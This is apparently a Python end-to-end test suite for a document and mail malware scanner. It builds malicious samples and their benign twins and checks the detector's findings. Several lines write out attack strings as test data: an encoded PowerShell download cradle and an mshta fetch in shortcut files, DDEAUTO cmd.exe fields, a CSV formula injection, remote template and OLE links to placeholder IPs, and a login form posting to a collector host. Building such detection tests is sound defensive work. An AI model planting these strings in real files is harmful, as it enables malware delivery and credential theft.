#!/usr/bin/env python3
"""End-to-end tests of the document, script, shortcut, name and mail indicators.

Runs the real binary on look-alikes built at test time by tests/gen/indicator_samples.py
(and fixtures.py, xls_sample.py, office_encrypt.py, pe_sample.py): for every indicator
family a malicious or suspicious sample whose finding id, severity and verdict are asserted,
and a benign twin (same container, same kind of content, without the attack) that must stay
clean with nothing at medium or higher.  Then the oletools corpus, read in place: each
folder must show its class of findings and the harmless files must stay clean.

Cases already asserted by test_scan.py, test_xlm.py and test_office_crypto.py are not
repeated here.  Usage: test_indicators.py --flowgate PATH [-k SUBSTRING]... [-v]; prints
"N passed, N failed[, N skipped]" last.
"""
import argparse
import fnmatch
import json
import os
import subprocess
import sys
import tempfile
import unittest
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
sys.path.insert(0, str(HERE.parent / "gen"))
sys.dont_write_bytecode = True
import runner  # noqa: E402
import fixtures as F  # noqa: E402
import indicator_samples as I  # noqa: E402
import office_encrypt as O  # noqa: E402
import pe_sample  # noqa: E402
import xls_sample as X  # noqa: E402

FLOWGATE = None
__unittest = True  # failures show flowgate's answer, not this file's frames
CORPUS = Path(os.environ.get("FG_OLETOOLS_CORPUS",
                             HERE.parents[2] / "shared" / "corpora" / "oletools"))
CORPUS_ZIP_PASSWORD = "infected-test"  # the corpus README's password for its .zip files
RANK = {"info": 0, "low": 1, "medium": 2, "high": 3, "critical": 4}


def scan(args, cwd):
    p = subprocess.run([FLOWGATE, "scan", "--no-progress", "--json", "--jobs", "2"]
                       + [str(a) for a in args],
                       cwd=cwd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=600)
    err = p.stderr.decode("utf-8", "replace")
    runner.check_run(p.returncode, err)
    return {r["path"]: r for r in (json.loads(x) for x in p.stdout.decode().splitlines() if x)}


def findings(result):
    """(object path below the input, id, severity, evidence) of every finding."""
    top = result["path"]
    return [(o["path"][len(top) + 3:] if o["path"] != top else "", f["id"], f["severity"],
             f.get("evidence", "")) for o in result["objects"] for f in o["findings"]]


def describe(result):
    return "%s -> %s\n  %s" % (result["path"], result["verdict"], "\n  ".join(
        "%s %s %s: %s" % (p or "(input)", i, s, e[:160]) for p, i, s, e in findings(result)))


# ---------------------------------------------------------------- the case table

@dataclass
class Find:
    """A finding that must be there: its id and severity, on an object whose path below the
    input matches `where` (fnmatch; "" is the input itself, None any object), with `text`
    in its evidence when given."""
    id: str
    severity: str
    where: str = None
    text: str = None


@dataclass
class Obj:
    """An object that must be there: path below the input (fnmatch) and type."""
    where: str
    type: str


@dataclass
class Case:
    family: str
    name: str        # the file written and scanned
    build: object    # () -> bytes
    verdict: str     # "clean" for twins
    finds: tuple = ()  # Find and Obj


def pe():
    return pe_sample.pe_bytes(imports=[("KERNEL32.dll", ["ExitProcess"])])


def eml(name, data, body="Please find the document attached.\n", **kw):
    return F.mail_bytes(body=body, attachments=[F.Attachment(name, data)], **kw)


M = "malicious"
S = "suspicious"
CLEAN = "clean"
CASES = []


def case(family, name, build, verdict, *finds):
    CASES.append(Case(family, name, build, verdict, finds))


# -- VBA macros: auto-run with download and execution, a trigger in one module and the
#    action in another, obfuscation, IOCs; twins format cells (with and without a trigger).
case("vba", "downloader.docm",
     lambda: I.docm_bytes([("ThisDocument", "cls", I.VBA_DOWNLOADER)]), M,
     Find("vba.autoexec-action", "high", "*ThisDocument.cls"),
     Find("vba.autoexec", "low", "*ThisDocument.cls", "Document_Open"),
     Find("vba.download", "medium", "*ThisDocument.cls", "URLDownloadToFile"),
     Find("vba.execute", "medium", "*ThisDocument.cls", "cmd.exe /c"),
     Find("vba.ioc", "info", "*ThisDocument.cls", "http://203.0.113.45/files/invoice_viewer.exe"))
case("vba", "cross-module.doc",
     lambda: I.doc_with_vba([("ThisDocument", "cls", I.VBA_TRIGGER_ONLY),
                             ("Updater", "bas", I.VBA_SHELL_MODULE)]), M,
     Find("vba.autoexec-action", "high", ""),
     Find("vba.execute", "medium", "Macros/VBA/Updater.bas", "powershell"),
     Find("vba.autoexec", "low", "Macros/VBA/ThisDocument.cls"))
case("vba", "obfuscated.xlsm",
     lambda: I.xlsm_bytes([("ThisWorkbook", "cls", I.VBA_OBFUSCATED)]), M,
     Find("vba.autoexec-action", "high", "*ThisWorkbook.cls"),
     Find("vba.obfuscation", "medium", "*ThisWorkbook.cls", "decoded: cmd.exe /c"),
     Find("vba.obfuscation", "medium", "*ThisWorkbook.cls", "decoded:  start calc.exe"),
     Find("vba.obfuscation", "medium", "*ThisWorkbook.cls", "DownloadString"))
case("vba", "contacts.docm",
     lambda: I.docm_bytes([("NewMacros", "bas", I.VBA_IOCS)]), S,
     Find("vba.obfuscation", "medium", "*NewMacros.bas", "decoded: Ask your contact"),
     Find("vba.ioc", "info", "*NewMacros.bas", "192.0.2.77"),
     Find("vba.ioc", "info", "*NewMacros.bas", "updater_setup.exe"),
     Find("vba.ioc", "info", "*NewMacros.bas", "http://downloads.example.net/tools/"))
case("vba", "twin-report.xlsm",
     lambda: I.xlsm_bytes([("Module1", "bas", I.VBA_FORMAT_CELLS),
                           ("ThisWorkbook", "cls", I.VBA_OPEN_SELECT)]), CLEAN,
     Find("vba.macros", "info", "*Module1.bas"),
     Find("vba.autoexec", "low", "*ThisWorkbook.cls", "Workbook_Open"))
case("vba", "twin-tables.docm",
     lambda: I.docm_bytes([("NewMacros", "bas", I.VBA_WORD_TABLES)]), CLEAN,
     Find("vba.macros", "info", "*NewMacros.bas"))
case("vba", "twin-tables.doc",
     lambda: I.doc_with_vba([("ThisDocument", "cls", I.VBA_WORD_OPEN_UPDATE),
                             ("NewMacros", "bas", I.VBA_WORD_TABLES)]), CLEAN,
     Find("vba.macros", "info", "Macros/VBA/NewMacros.bas"))

# -- Excel 4.0 macros: test_xlm.py has the formats; here a workbook as it arrives, attached
#    to a mail and inside a zip, and its twin.
case("xlm", "xlm-in-mail.eml",
     lambda: eml("Q2-figures.zip", F.zip_bytes([("Q2-figures.xls", X.xlm_malicious())])), M,
     Find("xlm.autorun-action", "high", "Q2-figures.zip > Q2-figures.xls > Workbook"),
     Find("xlm.exec", "high", "Q2-figures.zip > Q2-figures.xls > Workbook", "calc.exe"))
case("xlm", "twin-xls-in-mail.eml",
     lambda: eml("Q2-figures.zip", F.zip_bytes([("Q2-figures.xls", X.xls_benign())])), CLEAN)

# -- DDE: a DDEAUTO field split over runs, a DDE link to a program's data, RTF and CSV;
#    twins: PAGE / HYPERLINK / DATE fields and ordinary formulas.
case("dde", "dde-split.docx",
     lambda: I.docx_with_body(I.w_para("Loading...") + I.w_field(
         [" DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe ", '"/k calc.exe" '])), M,
     Find("dde.field", "high", "word/document.xml", "DDEAUTO"))
case("dde", "dde-link.docx",
     lambda: I.docx_with_body(I.w_para("Prices:") + I.w_field(
         [' DDE Excel "C:\\\\Data\\\\prices.xlsx" "Sheet1!R1C1" \\a '], "12.40")), S,
     Find("dde.field", "medium", "word/document.xml", "prices.xlsx"))
case("dde", "dde.rtf",
     lambda: I.rtf_field(r'DDEAUTO "C:\\\\Programs\\\\Microsoft\\\\Office\\\\MSWord.exe\\\\..'
                         r'\\\\..\\\\..\\\\..\\\\windows\\\\system32\\\\cmd.exe" "/c calc.exe"',
                         ""), M,
     Find("dde.field", "high", "", "cmd.exe"))
case("dde", "dde.csv",
     lambda: b"Name,Amount\r\nAlice,10\r\n=cmd|' /C calc'!A0,20\r\n", M,
     Find("dde.field", "high", "", "=cmd|' /C calc'!A0"))
case("dde", "twin-fields.docx",
     lambda: I.docx_with_body(
         I.w_para("Terms") + I.w_field([' HYPERLINK "https://www.example.com/terms" '], "terms")
         + I.w_field([" PAGE "], "1")
         + I.w_field([' DATE \\@ "d MMMM yyyy" '], "1 May 2024")), CLEAN)
case("dde", "twin-fields.rtf",
     lambda: I.rtf_field(r'HYPERLINK "https://www.example.com/terms"', "our terms")
     + I.rtf_field("PAGE", "1"), CLEAN)
case("dde", "twin-sums.csv",
     lambda: (b"Item,Qty,Price,Total\r\nPens,2,1.50,=B2*C2\r\nPads,3,-0.75,=B3*C3\r\n"
              b"Sum,,,=SUM(D2:D3)\r\nNote,,,+49 30 1234 5678\r\n"), CLEAN)

# -- OOXML external relationships: template injection and a remote OLE link; twins: an
#    ordinary hyperlink and a template on the local disk.
case("ooxml", "template-injection.docx",
     lambda: I.docx_settings_rels([("rId1", "attachedTemplate",
                                    "http://198.51.100.9/templates/invoice.dotm", True)]), M,
     Find("ooxml.external-template", "high", "word/_rels/settings.xml.rels",
          "attachedTemplate -> http://198.51.100.9/templates/invoice.dotm"))
case("ooxml", "remote-ole.docx",
     lambda: I.docx_with_body(I.w_para("Report") + I.OLE_LINK_BODY, None, [
         ("rId7", "oleObject", "http://203.0.113.45/doc/report.rtf", True)]), M,
     Find("ooxml.external-oleobject", "high", "word/_rels/document.xml.rels",
          "http://203.0.113.45/doc/report.rtf"))
case("ooxml", "twin-hyperlink.docx",
     lambda: I.docx_with_body(I.HYPERLINK_BODY, None, [
         ("rId5", "hyperlink", "https://www.example.com/terms", True)]), CLEAN)
case("ooxml", "twin-local-template.docx",
     lambda: I.docx_settings_rels([("rId1", "attachedTemplate",
                                    "file:///C:\\Users\\hanako\\AppData\\Roaming\\Microsoft\\"
                                    "Templates\\Letter.dotx", True)]), CLEAN,
     Find("ooxml.external-template", "low", "word/_rels/settings.xml.rels"))

# -- embedded OLE objects: packages carrying programs (the name reported), a linked object
#    with a URL moniker, the Equation Editor; twins: a package with a text file, a picture.
case("oleobj", "package-exe.doc",
     lambda: F.ole2_bytes(pe(), stream=None, package_name="invoice.exe"), S,
     Find("ole.package", "medium", "*Ole10Native", "invoice.exe (extension: exe)"))
case("oleobj", "package-js.docx",
     lambda: I.docx_embedding(I.package_object("Invoice.js", I.SCRIPT_JSE.encode())), M,
     Find("ole.package", "medium", "word/embeddings/oleObject1.bin > *Ole10Native",
          "Invoice.js (extension: js)"),
     Find("script.download", "high", "*Ole10Native > Invoice.js"))
case("oleobj", "ole2link.docx",
     lambda: I.docx_embedding(I.ole2link_object("http://198.51.100.9/doc/template.hta"),
                              "Word.Document.8"), M,
     Find("ole.ole2link", "high", "word/embeddings/oleObject1.bin"))
case("oleobj", "equation.docx",
     lambda: I.docx_embedding(I.equation_object(), "Equation.3"), M,
     Find("ole.equation", "high", "word/embeddings/oleObject1.bin"))
case("oleobj", "twin-package-txt.docx",
     lambda: I.docx_embedding(I.package_object("notes.txt", b"Agenda: budget, hiring\r\n")),
     CLEAN, Find("ole.package", "low", "*Ole10Native", "notes.txt (extension: txt)"))
case("oleobj", "twin-picture.docx",
     lambda: I.docx_embedding(I.paint_object(), "Paint.Picture"), CLEAN)

# -- RTF objects: Equation.3 with \objupdate, an obfuscated OLE2Link dropper; twins: a
#    picture, an ordinary embedded package.
case("rtf", "equation.rtf", I.rtf_equation, M,
     Find("rtf.equation", "high", ""), Find("rtf.objupdate", "medium", ""))
case("rtf", "obfuscated-link.rtf",
     lambda: I.rtf_obfuscated_link("http://198.51.100.9/doc/template.hta"), M,
     Find("rtf.obfuscation", "medium", ""), Find("rtf.ole2link", "high", ""),
     Find("rtf.objupdate", "medium", ""))
case("rtf", "twin-picture.rtf", I.rtf_picture, CLEAN)
case("rtf", "twin-package.rtf",
     lambda: F.rtf_bytes([("notes.txt", b"Agenda: budget, hiring\r\n")]), CLEAN,
     Find("rtf.object", "info", "", "Package"))

# -- PDF: automatic JavaScript that opens an attached program, a hex-escaped /JavaScript
#    name, /Launch, a credential form; twins: a link and an outline, a number-format field.
case("pdf", "openaction-attachment.pdf",
     lambda: I.pdf_openaction_js(b'this.exportDataObject({cName: "invoice.exe", nLaunch: 2});',
                                 embedded=("invoice.exe", pe())), M,
     Find("pdf.openaction", "high", "", "/OpenAction"),
     Find("pdf.javascript", "medium", "", "exportDataObject"),
     Find("pdf.embedded-file", "low", ""), Obj("invoice.exe", "pe"))
case("pdf", "hex-name.pdf",
     lambda: I.pdf_openaction_js(b'app.launchURL("http://198.51.100.7/track?id=4411", true);',
                                 hex_name=True), S,
     Find("pdf.javascript", "medium", "", "launchURL"),
     Find("pdf.openaction", "medium", ""))
case("pdf", "launch.pdf", lambda: I.pdf_launch("cmd.exe", "/c start calc.exe"), M,
     Find("pdf.launch", "high", "", "cmd.exe"))
case("pdf", "submitform.pdf",
     lambda: I.pdf_submitform("https://collector.example.org/pdf/post.php"), S,
     Find("pdf.submitform", "medium", "", "collector.example.org"))
case("pdf", "twin-link-outline.pdf",
     lambda: I.pdf_link_outline("https://www.example.com/annual-report"), CLEAN,
     Find("pdf.uri", "info", "", "https://www.example.com/annual-report"))
case("pdf", "twin-number-form.pdf", I.pdf_number_form, CLEAN,
     Find("pdf.javascript", "low", "", "AFNumber_Format"))

# -- Windows shortcuts (built by indicator_samples.lnk_bytes) and an ISO with .lnk + .dll;
#    twins: a shortcut to Notepad with a document, an ISO of documents.
PS_ENC = I.ps_encoded("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/p')")
case("lnk", "Invoice.pdf.lnk",
     lambda: I.lnk_bytes("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                         "-NoP -W Hidden -Enc " + PS_ENC, show=I.SW_SHOWMINNOACTIVE,
                         icon="C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe"), M,
     Find("lnk.suspicious", "high", "", "powershell.exe"),
     Find("lnk.target", "info", "", "args=-NoP -W Hidden -Enc "))
case("lnk", "scan.lnk",
     lambda: I.lnk_bytes("C:\\Windows\\System32\\cmd.exe",
                         '/c start /min "" mshta http://198.51.100.9/p.hta',
                         env_target="%windir%\\system32\\cmd.exe",
                         icon="%SystemRoot%\\System32\\imageres.dll"), M,
     Find("lnk.suspicious", "high", "", "mshta http://198.51.100.9/p.hta"))
case("lnk", "delivery.iso",
     lambda: F.iso_bytes([
         ("Invoice.lnk", I.lnk_bytes("C:\\Windows\\System32\\rundll32.exe", "helper.dll,Start")),
         ("helper.dll", pe())]), M,
     Find("lnk.iso-delivery", "high", "", "INVOICE.LNK"),
     Find("lnk.in-image", "medium", "*nvoice.lnk"))
case("lnk", "twin-notepad.lnk",
     lambda: I.lnk_bytes("C:\\Windows\\System32\\notepad.exe",
                         '"C:\\Users\\hanako\\Documents\\minutes.txt"',
                         workdir="C:\\Users\\hanako\\Documents"), CLEAN,
     Find("lnk.target", "info", "", "notepad.exe"))
case("lnk", "twin-documents.iso",
     lambda: F.iso_bytes([("report.pdf", I.pdf_link_outline("https://www.example.com/")),
                          ("readme.txt", b"Annual report 2024, final version.\n")]), CLEAN)

# -- scripts: HTA, VBScript, JScript (WSH), a PowerShell cradle, encoded and batch
#    droppers; twins: an admin PowerShell script, a web page's script, a copying batch file.
case("script", "viewer.hta", lambda: I.SCRIPT_HTA.encode(), M,
     Find("script.download", "high", "", "DownloadString"),
     Find("script.execute", "high", ""))
case("script", "report.vbs", lambda: I.SCRIPT_VBS.encode(), M,
     Find("script.download", "high", "", "MSXML2.XMLHTTP"),
     Find("script.execute", "high", "", "sh.Run path, 0"))
case("script", "invoice.js", lambda: I.SCRIPT_JSE.encode(), M,
     Find("script.download", "high", "", "bitsadmin /transfer"),
     Find("script.execute", "high", ""))
case("script", "update.ps1", lambda: I.SCRIPT_PS_CRADLE.encode(), M,
     Find("script.download", "high", "", "Net.WebClient"),
     Find("script.execute", "high", "", "IEX"))
case("script", "run.bat", lambda: I.script_bat_encoded().encode(), M,
     Find("script.encoded", "high", "", "decoded: IEX (New-Object Net.WebClient)"))
case("script", "fetch.cmd", lambda: I.SCRIPT_BAT.encode(), S,
     Find("script.download", "medium", "", "bitsadmin /transfer"),
     Find("script.encoded", "medium", "", "certutil -decode"))
case("script", "twin-rotate-logs.ps1", lambda: I.SCRIPT_PS_ADMIN.encode(), CLEAN)
case("script", "twin-signup.js", lambda: I.SCRIPT_WEB_JS.encode(), CLEAN)
case("script", "twin-backup.bat", lambda: I.SCRIPT_BAT_COPY.encode(), CLEAN)
case("script", "twin-page.html",
     lambda: ("<!DOCTYPE html><html><head><title>Shop</title><script>\n%s</script></head>"
              "<body><form id=\"signup\"><input name=\"email\"></form><p id=\"status\"></p>"
              "</body></html>\n" % I.SCRIPT_WEB_JS).encode(), CLEAN)

# -- names: double extensions in a zip and as a mail attachment, a right-to-left override,
#    a program named like a document; twins: ordinary dotted names.
case("names", "double-ext.zip",
     lambda: F.zip_bytes([("請求書.pdf.exe", pe())]), M,
     Find("name.double-extension", "high", "請求書.pdf.exe"))
case("names", "double-ext.eml", lambda: eml("請求書.pdf.exe", pe()), M,
     Find("name.double-extension", "high", "請求書.pdf.exe"))
case("names", "rtlo.zip", lambda: F.zip_bytes([("invoice\u202efdp.exe", pe())]), M,
     Find("name.rtlo", "high", "invoice*fdp.exe"))
case("names", "disguised.eml", lambda: eml("minutes.docx", pe()), M,
     Find("name.disguised-executable", "high", "minutes.docx"))
case("names", "twin-dotted.zip",
     lambda: F.zip_bytes([("report.v2.final.pdf", I.pdf_link_outline("https://www.example.com/")),
                          ("archive.tar.gz", F.tar_bytes([("a.txt", b"alpha\n")], "gz")),
                          ("setup-1.2.3.exe", pe())]), CLEAN)
case("names", "twin-dotted.eml",
     lambda: F.mail_bytes(attachments=[
         F.Attachment("report.v2.final.pdf", I.pdf_link_outline("https://www.example.com/")),
         F.Attachment("archive.tar.gz", F.tar_bytes([("a.txt", b"alpha\n")], "gz"))]), CLEAN)

# -- phishing: link text showing a domain over a bare IP or another domain, a login form
#    posting elsewhere; twins: honest links, a newsletter's tracking subdomain, a search form.
case("phish", "link-ip.eml", lambda: I.html_mail(I.PHISH_LINK_IP), M,
     Find("phish.link-mismatch", "high", "*.html", "198.51.100.7"))
case("phish", "link-other.eml",
     lambda: I.html_mail(I.PHISH_LINK_OTHER, "Delivery failed",
                         "Parcel Service <noreply@parcelservice.example>"), S,
     Find("phish.link-mismatch", "medium", "*.html", "parcel-tracking.example.net"))
case("phish", "login-attachment.eml",
     lambda: F.mail_bytes(subject="Shared document", body="Sign in to view the document.\n",
                          attachments=[F.Attachment("Document.html", I.PHISH_LOGIN_PAGE.encode(),
                                                    ctype="text/html")]), M,
     Find("phish.form-post", "high", "Document.html", "collector.example.org"))
case("phish", "twin-statement.eml", lambda: I.html_mail(I.MAIL_LINK_SAME), CLEAN)
case("phish", "twin-newsletter.eml",
     lambda: I.html_mail(I.MAIL_NEWSLETTER, "May offers", "Shop <news@shop.example>"), CLEAN)
case("phish", "twin-search-attachment.eml",
     lambda: F.mail_bytes(subject="Library", body="Our new catalogue search.\n",
                          attachments=[F.Attachment("search.html", I.SEARCH_PAGE.encode(),
                                                    ctype="text/html")]), CLEAN)

# -- Office encryption: test_office_crypto.py covers the schemes and passwords; here what
#    was hidden behind the default password is judged (a macro downloader), its benign twin
#    stays clean, and the same downloader under a password nobody gave is unscannable.
case("crypto", "encrypted-downloader.docm",
     lambda: O.agile_bytes(I.docm_bytes([("ThisDocument", "cls", I.VBA_DOWNLOADER)])), M,
     Find("encrypted.opened", "info", "", "VelvetSweatshop"),
     Find("vba.autoexec-action", "high", "EncryptedPackage > word/vbaProject.bin > *"))
case("crypto", "twin-encrypted-report.xlsm",
     lambda: O.agile_bytes(I.xlsm_bytes([("Module1", "bas", I.VBA_FORMAT_CELLS)])), CLEAN,
     Find("encrypted.opened", "info", ""),
     Find("vba.macros", "info", "EncryptedPackage > xl/vbaProject.bin > *Module1.bas"))
case("crypto", "locked-downloader.docm",
     lambda: O.agile_bytes(I.docm_bytes([("ThisDocument", "cls", I.VBA_DOWNLOADER)]),
                           "Sesame-42"), "unscannable",
     Find("encrypted.office", "low", ""))


class Indicators(unittest.TestCase):
    """One test per case: every fixture is scanned in one run of the binary."""

    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.TemporaryDirectory(prefix="fg-ind-")
        d = Path(cls.tmp.name)
        for c in CASES:
            F.write(d, c.name, c.build())
        cls.results = scan([c.name for c in CASES], d)

    @classmethod
    def tearDownClass(cls):
        cls.tmp.cleanup()

    def check(self, c):
        r = self.results.get(c.name)
        self.assertIsNotNone(r, "no result for %s" % c.name)
        found = findings(r)
        for want in c.finds:
            if isinstance(want, Obj):
                self.assertTrue([o for o in r["objects"] if o["type"] == want.type and
                                 fnmatch.fnmatchcase(o["path"][len(r["path"]) + 3:], want.where)],
                                "no %s object %r\n%s" % (want.type, want.where, describe(r)))
                continue
            ok = [f for f in found if f[1] == want.id and f[2] == want.severity
                  and (want.where is None or fnmatch.fnmatchcase(f[0], want.where))
                  and (want.text is None or want.text in f[3])]
            self.assertTrue(ok, "missing %s\n%s" % (want, describe(r)))
        self.assertEqual(r["verdict"], c.verdict, describe(r))
        if c.verdict == CLEAN:
            loud = [f for f in found if RANK[f[2]] >= RANK["medium"]]
            self.assertEqual(loud, [], describe(r))


for _c in CASES:
    _t = "test_%s_%s" % (_c.family, "".join(ch if ch.isalnum() else "_" for ch in _c.name))
    assert not hasattr(Indicators, _t), "duplicate case " + _c.name
    setattr(Indicators, _t, lambda self, c=_c: self.check(c))


# ---------------------------------------------------------------- the oletools corpus

def corpus_class(rel):
    """The ids a corpus file must show at medium or higher, or CLEAN, or None when another
    suite asserts it (excel4-macros: test_xlm.py; encrypted/: test_office_crypto.py)."""
    name = Path(rel).name
    folder = Path(rel).parts[0]
    if name.startswith("harmless-clean") or folder in ("basic", "other") or \
            name == "RTF-Spec-1.7.rtf":  # msodde's benign sample: thousands of ordinary fields
        return CLEAN
    if folder in ("excel4-macros", "encrypted"):
        return None
    if folder in ("msodde", "ooxml"):
        return ("dde.",)
    if folder == "rtfobj":
        return ("rtf.",)
    if rel.startswith("oleobj/external_link/"):
        return ("ooxml.external-oleobject",)
    return None  # oleobj, olevba, oleform: see CORPUS_OBJECTS


# oleobj/, olevba/, oleform/: files whose embedded objects or macros are harmless still
# show them (low or info findings); the ones carrying a program are suspicious.
CORPUS_OBJECTS = {
    "oleobj/sample_with_calc_embedded.doc": ("ole.package", "medium", "calc.exe"),
    "oleobj/sample_with_lnk_file.doc": ("ole.package", "medium", ".lnk"),
    "oleobj/sample_with_lnk_to_calc.doc": ("ole.package", "medium", "calc.exe"),
    "oleobj/sample_with_lnk_file.ppt": ("ole.package", "medium", "calc.lnk"),
    "oleobj/sample_with_lnk_file.pps": ("ole.package", "medium", "calc.lnk"),
    "olevba/sample_with_vba.ppt": ("vba.macros", "info", "Module1"),
    "oleform/oleform-PR314.docm": ("vba.macros", "info", "UserFormTEST1"),
}


class Corpus(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.files = sorted(str(p.relative_to(CORPUS)) for p in CORPUS.rglob("*")
                           if p.is_file() and p.suffix != ".md") if CORPUS.is_dir() else []
        cls.results = scan(["-p", CORPUS_ZIP_PASSWORD] + cls.files, CORPUS) if cls.files else {}

    def setUp(self):
        if not self.files:
            self.skipTest("oletools corpus not found at %s" % CORPUS)

    def test_every_file_scanned(self):
        self.assertEqual(sorted(self.results), self.files)
        for rel, r in self.results.items():
            if not rel.startswith(("encrypted/", "basic/encrypted")):
                self.assertNotIn(r["verdict"], ("error", "unscannable"), describe(r))

    def test_folder_classes(self):
        for rel in self.files:
            want = corpus_class(rel)
            if want is None:
                continue
            r = self.results[rel]
            with self.subTest(rel):
                loud = [f for f in findings(r) if RANK[f[2]] >= RANK["medium"]]
                if want == CLEAN:
                    self.assertEqual(loud, [], describe(r))
                    self.assertIn(r["verdict"], (CLEAN, "unscannable"), describe(r))
                else:
                    self.assertTrue(loud and all(f[1].startswith(want) for f in loud),
                                    "want %s\n%s" % (want, describe(r)))
                    self.assertIn(r["verdict"], (S, M), describe(r))

    def test_embedded_objects_and_macros(self):
        for rel, (fid, sev, text) in CORPUS_OBJECTS.items():
            r = self.results[rel]
            with self.subTest(rel):
                self.assertTrue([f for f in findings(r) if f[1] == fid and f[2] == sev
                                 and text in f[3]], describe(r))
                self.assertEqual(r["verdict"], S if sev == "medium" else CLEAN, describe(r))

    def test_embedded_simple_packages(self):
        """Every Office format of embedded-simple-2007 carries the same text file: the
        package is shown (low) and the document stays clean."""
        for rel in self.files:
            if not Path(rel).name.startswith("embedded-simple-2007."):
                continue
            r = self.results[rel]
            with self.subTest(rel):
                self.assertEqual(r["verdict"], CLEAN, describe(r))
                if rel in CORPUS_PACKAGE_GAPS:
                    continue
                self.assertTrue([f for f in findings(r) if f[1] == "ole.package" and
                                 f[2] == "low" and "simple-text-file.txt" in f[3]], describe(r))


# Formats whose embedded objects flowgate does not reach yet (see the report in
# docs/internals/oleobj.md): Word 2003 XML keeps them base64 in <w:binData> as an ActiveMime
# blob, Flat OPC in <pkg:binaryData>.
CORPUS_PACKAGE_GAPS = {"oleobj/embedded-simple-2007.xml", "oleobj/embedded-simple-2007-as2003.xml"}


def main():
    global FLOWGATE
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--flowgate", required=True)
    ap.add_argument("-k", action="append", default=[])
    ap.add_argument("-v", action="store_true")
    a = ap.parse_args()
    FLOWGATE = str(Path(a.flowgate).resolve())
    return runner.run_suite((Indicators, Corpus), a.k, a.v, "e2e.indicators")


if __name__ == "__main__":
    sys.exit(main())
